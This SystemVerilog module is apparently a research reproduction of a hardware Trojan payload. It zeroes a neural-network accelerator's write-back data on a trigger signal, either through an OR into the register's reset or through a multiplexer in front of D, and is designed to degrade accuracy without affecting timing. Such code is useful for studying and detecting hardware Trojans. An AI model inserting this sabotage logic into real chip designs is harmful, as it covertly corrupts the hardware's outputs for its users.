// payload_zero_reg: the write queue's output flip-flop with the Trojan's
// zero-setting gate.
//
// Replacing the data written back with zeros is enough to ruin the
// network's accuracy, and it can be done without touching the timing path:
// either an OR gate merges the Trojan's zero signal into the flip-flop's
// reset (STYLE = PAYLOAD_OR_RESET), or a two-input multiplexer in front of
// D selects 0 instead of the data (STYLE = PAYLOAD_MUX_INPUT). Both circuits
// follow the published schematic. The reset is synchronous and active high
// in this design. The two styles differ only while the register holds a
// value: the OR style clears a held word as soon as zero rises, the MUX
// style only changes what is loaded.
//
// Interface: load captures d; zero is the Trojan's payload enable; q is the
// registered output. No added latency.
module payload_zero_reg
  import trojan_pkg::*;
#(
  parameter int unsigned    WIDTH = BEAT_W,
  parameter payload_style_e STYLE = PAYLOAD_MUX_INPUT
) (
  input  logic             clk,
  input  logic             rst,
  input  logic             load,
  input  logic [WIDTH-1:0] d,
  input  logic             zero,
  output logic [WIDTH-1:0] q
);

  if (STYLE == PAYLOAD_OR_RESET) begin : g_or
    logic r;
    assign r = rst | zero;             // OR gate into the reset port
    always_ff @(posedge clk) begin
      if (r)         q <= '0;
      else if (load) q <= d;
    end
  end else begin : g_mux
    logic [WIDTH-1:0] d_mux;
    assign d_mux = zero ? '0 : d;      // multiplexer in front of D
    always_ff @(posedge clk) begin
      if (rst)       q <= '0;
      else if (load) q <= d_mux;
    end
  end

endmodule
